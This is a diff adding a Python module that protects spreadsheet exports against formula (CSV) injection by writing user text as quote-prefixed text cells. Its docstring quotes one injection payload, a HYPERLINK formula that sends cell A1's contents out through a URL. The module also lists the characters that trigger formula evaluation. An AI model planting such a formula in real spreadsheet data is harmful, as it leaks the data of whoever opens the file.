@@ -1,0 +1,90 @@
+"""User text into a spreadsheet the desk writes — always as text, never as a formula.  One place for every
+writer (exports, import problem reports, the import template, score sheets, plans); docs/records.md,
+"Spreadsheets the desk writes".
+
+openpyxl turns a string starting with ``=`` into a formula cell (``<f>`` in the sheet XML) and ``#N/A`` and
+the other error words into error cells; a name ``=HYPERLINK("http://…?leak="&A1,"点我")`` became a live link
+in the supervisor's export.  Following the OWASP CSV-injection guidance, the desk writes user text as
+**typed text cells** (``t="inlineStr"``: Excel, WPS and LibreOffice show the characters, evaluate nothing)
+and gives a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab, CR or LF (or their full-width
+forms) the **quote-prefix style** (Excel's leading apostrophe), so editing the cell later keeps it text.
+The text itself is not changed — no ``'`` is added — so a corrected problem report imports the same value.
+
+Characters XML 1.0 cannot carry (C0 controls but tab/LF/CR, lone surrogates) are written as U+FFFD: the
+import refuses them (:mod:`.text_policy`), but a record stored before that rule must not make an export
+fail for good.  openpyxl is imported only by the functions that need it.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any, Iterable
+
+#: first characters that make a spreadsheet read text as a formula when it is typed or pasted
+RISKY_FIRST = frozenset("=+-@\t\r\n＝＋－＠")
+_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
+#: what openpyxl would store as an error cell rather than text
+_ERROR_WORDS = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
+_TITLE_BAD = re.compile(r"[\\/*?:\[\]]")
+
+
+def writable(text: str) -> str:
+    """``text`` with the characters an .xlsx cannot hold replaced by U+FFFD."""
+    return _UNWRITABLE.sub("\ufffd", text)
+
+
+def _needs_care(value: str) -> bool:
+    return bool(value) and (value[0] in RISKY_FIRST or not value.isprintable() or value in _ERROR_WORDS)
+
+
+def text_cell(ws, value: Any):
+    """A cell of ``ws`` (normal or write-only) holding ``value``; a string is a typed text cell, quote-prefixed
+    when it starts like a formula.  Style it (font, fill …) as any openpyxl cell."""
+    from openpyxl.cell.cell import Cell
+
+    if not isinstance(value, str):
+        return Cell(ws, row=1, column=1, value=value)
+    text = writable(value) if not value.isprintable() else value
+    cell = Cell(ws, row=1, column=1, value=None)
+    cell._value = text  # bound directly: the setter would make "=…" a formula and "#N/A" an error
+    cell.data_type = "s"
+    if text and text[0] in RISKY_FIRST:
+        cell.quotePrefix = True
+    return cell
+
+
+def row(ws, values: Iterable[Any]) -> list:
+    """``values`` as ``ws.append`` takes them: plain values stay (fast), strings that need care become
+    :func:`text_cell` cells.  Use for every row with user text."""
+    out = list(values)
+    for i, value in enumerate(out):
+        if value.__class__ is str and _needs_care(value):
+            out[i] = text_cell(ws, value)
+    return out
+
+
+def put(ws, row_number: int, column: int, value: Any):
+    """``ws.cell(row, column, value)`` for a normal worksheet, with :func:`text_cell`'s rules; returns the cell."""
+    cell = ws.cell(row=row_number, column=column)
+    if isinstance(value, str):
+        safe = text_cell(ws, value)
+        cell._value = safe._value
+        cell.data_type = "s"
+        if safe.quotePrefix:
+            cell.quotePrefix = True
+    else:
+        cell.value = value
+    return cell
+
+
+def sheet_title(name: str, taken: Iterable[str] = ()) -> str:
+    """A sheet title Excel accepts made from any name: no ``\\ / * ? : [ ]``, at most 31 characters, not
+    blank, not one already ``taken``."""
+    title = _TITLE_BAD.sub("_", writable(name)).strip("'")[:31] or "Sheet"
+    taken = set(taken)
+    base, n = title, 1
+    while title in taken:
+        n += 1
+        suffix = f" ({n})"
+        title = base[:31 - len(suffix)] + suffix
+    return title
